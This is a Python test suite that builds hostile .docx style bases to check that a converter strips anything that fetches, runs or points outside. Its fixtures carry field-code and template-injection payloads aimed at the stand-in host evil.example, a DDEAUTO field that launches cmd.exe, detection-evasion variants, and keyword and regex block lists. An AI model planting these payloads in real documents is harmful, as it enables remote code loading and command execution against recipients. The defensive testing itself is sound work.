"""``--style BASE.docx`` of a stranger: only looks may come over; nothing that fetches, runs or points outside."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.strangers.attempts import Attempt, Command
from tests.strangers.bases import EXAMPLE, RELATION, TYPES, W, packed, parts, replaced, run

Make = Callable[[Path], object]
NS = (
    f'xmlns:w="{W}" xmlns:r="{RELATION}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
EVIL = "http://evil.example/x"

FIELDS = (
    "INCLUDEPICTURE", "INCLUDETEXT", "DDE", "DDEAUTO", "LINK", "IMPORT", "INCLUDE", "DATABASE", "RD", "EMBED", "MACROBUTTON", "AUTOTEXT", "AUTOTEXTLIST", "ASK", "FILLIN", "MERGEFIELD", "HYPERLINK", "GOTOBUTTON", "PRINT", "CONTROL", "HTMLCONTROL", "ADDIN", "NEXT", "SHAPE",
)  # fmt: skip
#: Fields that fetch or run; the finished document must have none of them.
FORBIDDEN = re.compile(
    r"(?i)\b(INCLUDEPICTURE|INCLUDETEXT|DDEAUTO|DDE|LINK|IMPORT|INCLUDE|DATABASE|MACROBUTTON|EMBED|HTMLCONTROL|CONTROL|ADDIN|MERGEFIELD|RD|HYPERLINK)\b\s"
)
WORDS = (
    "attachedTemplate",
    "mailMerge",
    "OLEObject",
    "oleObject",
    "altChunk",
    "subDoc",
    "vbaProject",
    "activeX",
    "evil.example",
    "movie",
    "frameset",
    "file:///",
    "\\\\server",
)


#: What is in parts that a style sheet is never taken from: nobody misses it.
UNKEPT = ("macros", "custom", "glossary", "web", "notes", "background", "relation")


def complex_field(*instruction: str, result: str = "1") -> str:
    held = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instruction
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{held}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'{run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


Related = tuple[str, str, str, bool]  # id, kind of relation, target, external


def relations(*held: Related) -> bytes:
    inner = "".join(
        f'<Relationship Id="{i}" Type="{kind if "/" in kind else RELATION + "/" + kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
        for i, kind, target, outside in held
    )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'.encode()


def with_relations(held: dict[str, bytes], part: str, *new: Related) -> None:
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    if rels in held:
        inner = relations(*new).decode().partition('relationships">')[2].removesuffix("</Relationships>")
        held[rels] = replaced(held[rels].decode(), "</Relationships>", inner + "</Relationships>").encode()
    else:
        held[rels] = relations(*new)


def typed(held: dict[str, bytes], part: str, kind: str) -> None:
    listed = held["[Content_Types].xml"].decode()
    held["[Content_Types].xml"] = replaced(
        listed, "</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    ).encode()


def in_part(part: str, xml: str, *related: Related) -> Make:
    """The base with ``xml`` in a paragraph of a header, footer or the body."""

    def make(path: Path) -> None:
        held = parts()
        if part == "word/header1.xml":
            held[part] = f"<w:hdr {NS}><w:p>{run('页眉')}</w:p></w:hdr>".encode()
            typed(held, part, f"{TYPES}.header+xml")
            with_relations(held, "word/document.xml", ("hd1", "header", "header1.xml", False))
            text = held["word/document.xml"].decode()
            held["word/document.xml"] = replaced(
                text, "<w:sectPr>", '<w:sectPr><w:headerReference w:type="default" r:id="hd1"/>'
            ).encode()
        body = held[part].decode()
        root = re.search(r"<w:(hdr|ftr|document)\b[^>]*>", body)
        assert root is not None
        body = body.replace(root[0], f"<w:{root[1]} {NS}>", 1)
        end = {"hdr": "</w:hdr>", "ftr": "</w:ftr>", "document": "<w:sectPr>"}[root[1]]
        content = (
            xml
            if xml.startswith(("<w:p>", "<w:altChunk", "<w:tbl", "<w:sdt", "<w:subDoc"))
            else f"<w:p>{xml}</w:p>"
        )
        head, _, tail = body.rpartition(end)
        held[part] = (head + content + end + tail).encode()
        if related:
            with_relations(held, part, *related)
        packed(held, path)

    return make


def in_settings(xml: str, *related: Related) -> Make:
    def make(path: Path) -> None:
        held = parts()
        body = held["word/settings.xml"].decode()
        root = re.search(r"<w:settings\b[^>]*>", body)
        assert root is not None
        held["word/settings.xml"] = body.replace(root[0], f"<w:settings {NS}>" + xml, 1).encode()
        with_relations(held, "word/settings.xml", *related)
        packed(held, path)

    return make


def new_part(name: str, kind: str, relation: str, content: bytes, *related: Related) -> Make:
    def make(path: Path) -> None:
        held = parts()
        held[name] = content
        typed(held, name, kind)
        with_relations(held, "word/document.xml", ("np1", relation, name.removeprefix("word/"), False))
        if related:
            with_relations(held, name, *related)
        packed(held, path)

    return make


def in_styles(xml: str, *related: Related) -> Make:
    def make(path: Path) -> None:
        held = parts()
        held["word/styles.xml"] = replaced(
            held["word/styles.xml"].decode(), "</w:styles>", xml + "</w:styles>"
        ).encode()
        if related:
            with_relations(held, "word/styles.xml", *related)
        packed(held, path)

    return make


def picture(attribute: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="10" cy="10"/><wp:docPr id="9" name="p"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {attribute}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def finished(program: Command, path: Path) -> str:
    """Convert the example with the base at ``path``, and look through every part of what came out."""
    from tests.strangers.judging import crashed

    out = path.with_name("finished.docx")
    ran = program("convert", EXAMPLE, out, "--style", path)
    if trouble := crashed(ran):
        return f"crash: {trouble}"
    if ran.status != 0:
        return (
            f"said: {ran.errors.strip()[:150]}"
            if len(ran.errors.strip().splitlines()) == 1
            else f"crash: {ran.errors[:200]!r}"
        )
    found = []
    with zipfile.ZipFile(out) as package:
        for name in package.namelist():
            body = package.read(name).decode("utf-8", "replace")
            if re.search(r'(?i)TargetMode\s*=\s*["\']external', body):
                found.append(f"{name}: external relation")
            found += [f"{name}: {word}" for word in WORDS if word in body]
            instructions = re.findall(r"<w:(?:del)?[iI]nstrText[^>]*>([^<]*)<", body) + re.findall(
                r'w:instr="([^"]*)"', body
            )
            if FORBIDDEN.search("".join(instructions) + " "):
                found.append(f"{name}: field {''.join(instructions)[:60]!r}")
        if ">437<" not in package.read("word/document.xml").decode():
            found.append("the report itself is gone")
    if found:
        return "; ".join(found[:4])
    if not ran.errors.strip():
        return "dropped without a word"
    return ""


def kinds() -> Iterator[tuple[str, str, Make]]:
    places = ("word/header1.xml", "word/footer1.xml", "word/document.xml")
    for part in places:
        where = part.removeprefix("word/").removesuffix(".xml")
        for field in FIELDS[:12] if part == "word/header1.xml" else FIELDS[:5]:
            yield f"field-{where}", field, in_part(part, complex_field(f' {field} "{EVIL}" \\d '))
        yield (
            f"field-{where}",
            "simple",
            in_part(
                part, f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{EVIL}&quot; ">{run("1")}</w:fldSimple>'
            ),
        )
        yield (
            f"field-{where}",
            "split-instruction",
            in_part(part, complex_field(" INCLUDE", "PICTURE ", f'"{EVIL}"')),
        )
        yield f"field-{where}", "lower-case", in_part(part, complex_field(f' includepicture "{EVIL}"'))
        yield (
            f"field-{where}",
            "quoted-codes",
            in_part(
                part,
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                + complex_field(" QUOTE 73 78 67 76 85 68 69 80 73 67 84 85 82 69 ", result="INCLUDEPICTURE")
                + f'<w:r><w:instrText> "{EVIL}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
            ),
        )
        yield (
            f"field-{where}",
            "nested",
            in_part(
                part,
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1=1 </w:instrText></w:r>'
                + complex_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" ')
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
            ),
        )
        yield (
            f"field-{where}",
            "never-ended",
            in_part(
                part,
                f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "{EVIL}" </w:instrText></w:r>',
            ),
        )
        yield (
            f"field-{where}",
            "deleted-instruction",
            in_part(
                part,
                f'<w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText> LINK Excel "{EVIL}" </w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>',
            ),
        )
        yield (
            f"picture-{where}",
            "linked",
            in_part(part, picture('r:link="e1"'), ("e1", "image", EVIL + ".png", True)),
        )
        yield (
            f"picture-{where}",
            "embedded-and-linked",
            in_part(
                part,
                picture('r:embed="e1" r:link="e2"'),
                ("e1", "image", EVIL + ".png", True),
                ("e2", "image", "\\\\server\\share\\a.png", True),
            ),
        )
        yield (
            f"picture-{where}",
            "vml",
            in_part(
                part,
                '<w:r><w:pict><v:shape><v:imagedata r:id="e1" o:href="http://evil.example/x.png"/></v:shape></w:pict></w:r>',
                ("e1", "image", EVIL + ".png", True),
            ),
        )
        yield (
            f"picture-{where}",
            "vml-href-only",
            in_part(
                part,
                '<w:r><w:pict><v:shape><v:imagedata r:href="e1"/></v:shape></w:pict></w:r>',
                ("e1", "image", EVIL + ".png", True),
            ),
        )
        yield (
            f"link-{where}",
            "hyperlink",
            in_part(
                part, f'<w:hyperlink r:id="e1">{run("点这里")}</w:hyperlink>', ("e1", "hyperlink", EVIL, True)
            ),
        )
        yield (
            f"link-{where}",
            "hyperlink-file",
            in_part(
                part,
                f'<w:hyperlink r:id="e1">{run("点这里")}</w:hyperlink>',
                ("e1", "hyperlink", "file:///c:/windows/system32/calc.exe", True),
            ),
        )
        yield (
            f"link-{where}",
            "picture-click",
            in_part(
                part,
                picture("").replace(
                    '<wp:docPr id="9" name="p"/>',
                    '<wp:docPr id="9" name="p"><a:hlinkClick r:id="e1"/></wp:docPr>',
                ),
                ("e1", "hyperlink", EVIL, True),
            ),
        )
        yield (
            f"ole-{where}",
            "linked",
            in_part(
                part,
                '<w:r><w:object><v:shape/><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="e1" UpdateMode="Always"/></w:object></w:r>',
                ("e1", "oleObject", EVIL + ".xlsx", True),
            ),
        )
        yield (
            f"chunk-{where}",
            "outside",
            in_part(part, '<w:altChunk r:id="e1"/>', ("e1", "aFChunk", EVIL + ".html", True)),
        )
        yield (
            f"chunk-{where}",
            "part-of-document",
            in_part(part, '<w:subDoc r:id="e1"/>', ("e1", "subDocument", EVIL + ".docx", True)),
        )
        yield f"relation-{where}", "unused", in_part(part, run("x"), ("e1", "image", EVIL, True))
        yield (
            f"relation-{where}",
            "unknown-kind",
            in_part(part, run("x"), ("e1", "http://evil.example/relation", EVIL, True)),
        )
    for name, target in (
        ("http", EVIL + ".dotm"),
        ("server", "\\\\server\\share\\a.dotm"),
        ("file", "file:///c:/a.dotm"),
        ("webdav", "http://evil.example@80/x.dotm"),
    ):
        yield (
            "template",
            name,
            in_settings('<w:attachedTemplate r:id="t1"/>', ("t1", "attachedTemplate", target, True)),
        )
    yield "template", "relation-alone", in_settings("", ("t1", "attachedTemplate", EVIL, True))
    merge = '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=x;Data Source=http://evil.example/x"/><w:query w:val="SELECT * FROM a"/><w:dataSource r:id="m1"/></w:mailMerge>'
    yield "merge", "source", in_settings(merge, ("m1", "mailMergeSource", EVIL, True))
    yield (
        "merge",
        "header-source",
        in_settings(
            merge.replace("<w:dataSource", "<w:headerSource"), ("m1", "mailMergeHeaderSource", EVIL, True)
        ),
    )
    yield (
        "settings",
        "linked-styles",
        in_settings('<w:linkStyles/><w:attachedTemplate r:id="t1"/>', ("t1", "attachedTemplate", EVIL, True)),
    )
    yield (
        "settings",
        "update-fields",
        in_settings(
            '<w:updateFields w:val="true"/><w:attachedTemplate r:id="t1"/>',
            ("t1", "attachedTemplate", EVIL, True),
        ),
    )
    yield (
        "settings",
        "saved-through-transform",
        in_settings('<w:saveThroughXslt r:id="t1"/>', ("t1", "transform", EVIL, True)),
    )
    yield "settings", "schema-library", in_settings('<w:attachedSchema w:val="http://evil.example/x"/>')
    yield (
        "web",
        "frames",
        new_part(
            "word/webSettings.xml",
            f"{TYPES}.webSettings+xml",
            "webSettings",
            f'<w:webSettings {NS}><w:frameset><w:frame><w:sourceFileName r:id="f1"/></w:frame></w:frameset></w:webSettings>'.encode(),
            ("f1", "frame", EVIL, True),
        ),
    )
    bullet = f'<w:numbering {NS}><w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape><v:imagedata r:id="b1"/></v:shape></w:pict></w:numPicBullet></w:numbering>'
    yield (
        "numbering",
        "picture-bullet",
        new_part(
            "word/numbering.xml",
            f"{TYPES}.numbering+xml",
            "numbering",
            bullet.encode(),
            ("b1", "image", EVIL, True),
        ),
    )
    notes = f'<w:footnotes {NS}><w:footnote w:id="2"><w:p><w:hyperlink r:id="h1">{run("x")}</w:hyperlink></w:p></w:footnote></w:footnotes>'
    yield (
        "notes",
        "link",
        new_part(
            "word/footnotes.xml",
            f"{TYPES}.footnotes+xml",
            "footnotes",
            notes.encode(),
            ("h1", "hyperlink", EVIL, True),
        ),
    )
    theme = '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" name="x"><a:themeElements><a:fmtScheme><a:bgFillStyleLst><a:blipFill><a:blip r:link="i1"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>'
    yield (
        "theme",
        "picture",
        new_part(
            "word/theme/theme1.xml",
            "application/vnd.openxmlformats-officedocument.theme+xml",
            "theme",
            theme.encode(),
            ("i1", "image", EVIL, True),
        ),
    )
    fonts = f'<w:fonts {NS}><w:font w:name="x"><w:embedRegular r:id="f1"/></w:font></w:fonts>'
    yield (
        "fonts",
        "embedded-outside",
        new_part(
            "word/fontTable.xml",
            f"{TYPES}.fontTable+xml",
            "fontTable",
            fonts.encode(),
            ("f1", "font", EVIL, True),
        ),
    )
    yield (
        "macros",
        "project",
        new_part(
            "word/vbaProject.bin",
            "application/vnd.ms-office.vbaProject",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            b"\xd0\xcf\x11\xe0",
        ),
    )
    yield (
        "macros",
        "control",
        new_part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "control", b"<ax/>"),
    )
    yield (
        "custom",
        "data",
        new_part(
            "word/customXml1.xml",
            "application/xml",
            "customXml",
            b"<x>http://evil.example/x</x>",
            ("c1", "customXmlProps", EVIL, True),
        ),
    )
    yield (
        "glossary",
        "document",
        new_part(
            "word/glossary/document.xml",
            f"{TYPES}.document.glossary+xml",
            "glossaryDocument",
            f"<w:glossaryDocument {NS}/>".encode(),
            ("g1", "attachedTemplate", EVIL, True),
        ),
    )
    yield "styles", "relation", in_styles("", ("s1", "image", EVIL, True))
    yield (
        "styles",
        "field-in-name",
        in_styles(
            '<w:style w:type="paragraph" w:styleId="E"><w:name w:val="evil.example"/><w:pPr><w:pict><v:imagedata r:id="s1" xmlns:v="urn:schemas-microsoft-com:vml"/></w:pict></w:pPr></w:style>',
            ("s1", "image", EVIL, True),
        ),
    )

    def background(path: Path) -> None:
        held = parts()
        text = held["word/document.xml"].decode()
        held["word/document.xml"] = text.replace(
            "<w:body>",
            '<w:background w:color="FFFFFF"><v:background id="b"><v:fill r:id="bg" src="http://evil.example/x" type="frame"/></v:background></w:background><w:body>',
            1,
        ).encode()
        with_relations(held, "word/document.xml", ("bg", "image", EVIL, True))
        packed(held, path)

    yield "background", "picture", background

    def top(path: Path) -> None:
        held = parts()
        held["_rels/.rels"] = replaced(
            held["_rels/.rels"].decode(),
            "</Relationships>",
            f'<Relationship Id="zz" Type="{RELATION}/attachedTemplate" Target="{EVIL}" TargetMode="External"/></Relationships>',
        ).encode()
        packed(held, path)

    yield "relation", "of-the-package", top

    def printer(path: Path) -> None:
        held = parts()
        held["word/document.xml"] = replaced(
            held["word/document.xml"].decode(), "<w:sectPr>", '<w:sectPr><w:printerSettings r:id="pr"/>'
        ).encode()
        with_relations(held, "word/document.xml", ("pr", "printerSettings", EVIL, True))
        packed(held, path)

    yield "relation", "printer-settings", printer


def clean(program: Command, path: Path) -> str:
    """A harmless base: nothing has to be said."""
    told = finished(program, path)
    return "" if told == "dropped without a word" else told


def attempts() -> Iterator[Attempt]:
    promise = (
        "only styles, page set-up and harmless header and footer content come over; what is dropped is named"
    )
    for kind, name, make in kinds():
        named = not kind.endswith("-document") and kind not in UNKEPT
        yield Attempt(
            "styles", kind, name, ".docx", make, judge=finished if named else clean, promise=promise
        )
    yield Attempt(
        "styles",
        "harmless",
        "plain",
        ".docx",
        lambda path: packed(parts(), path),
        judge=clean,
        promise=promise,
    )
    yield Attempt(
        "styles",
        "harmless",
        "header",
        ".docx",
        in_part("word/header1.xml", run("x")),
        judge=clean,
        promise=promise,
    )
    yield Attempt(
        "styles",
        "harmless",
        "page-number",
        ".docx",
        in_part("word/footer1.xml", complex_field(" PAGE ")),
        judge=clean,
        promise=promise,
    )
